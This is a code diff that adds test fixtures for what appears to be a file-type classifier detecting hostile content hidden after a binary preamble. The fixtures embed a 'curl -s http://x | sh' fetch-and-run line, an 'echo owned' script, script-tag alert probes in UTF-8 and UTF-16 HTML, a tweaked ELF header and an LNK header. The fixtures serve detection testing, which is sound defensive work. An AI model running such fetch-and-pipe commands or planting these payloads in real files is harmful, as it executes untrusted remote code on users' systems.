@@ -190,6 +190,11 @@ pub fn tiff_with_stale_strips() -> Vec<u8> {
     data
 }
 
+/// `text` in UTF-16, little endian, without a byte order mark.
+pub fn utf16le(text: &str) -> Vec<u8> {
+    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
+}
+
 /// A named hostile or edge-case input and what classification must say about it.
 pub struct Fixture {
     pub name: &'static str,
@@ -228,6 +233,57 @@ pub fn preamble_fixtures() -> Vec<Fixture> {
             with_preamble(ct.clone(), b"echo owned; exit 0\n"),
             "script",
             true,
+        ),
+        fixture(
+            "script-after-nul-padding",
+            with_preamble(ct.clone(), b"ACME\0\0\0\0\ncurl -s http://x | sh\n"),
+            "script",
+            true,
+        ),
+        fixture(
+            "script-after-control-bytes",
+            with_preamble(ct.clone(), b"\x01\x02\x03\necho owned; exit 0\n"),
+            "script",
+            true,
+        ),
+        fixture(
+            "elf-ei-version-0",
+            {
+                let mut elf = elf_polyglot().0;
+                elf[6] = 0;
+                elf
+            },
+            "elf",
+            true,
+        ),
+        fixture(
+            "html-utf8-bom",
+            with_preamble(ct.clone(), b"\xEF\xBB\xBF<html><script>alert(1)</script>"),
+            "html",
+            true,
+        ),
+        fixture(
+            "html-utf16le",
+            with_preamble(ct.clone(), &utf16le("<html><script>alert(1)</script>")),
+            "html",
+            true,
+        ),
+        fixture(
+            "lnk",
+            with_preamble(
+                ct.clone(),
+                &[
+                    0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46,
+                ],
+            ),
+            "archive",
+            true,
+        ),
+        fixture(
+            "text-lines",
+            with_preamble(ct.clone(), b"ACME\0\0\0\0\nVersion 4.2\nMITRA LINKED\n"),
+            "text",
+            false,
         ),
         fixture(
             "pdf",
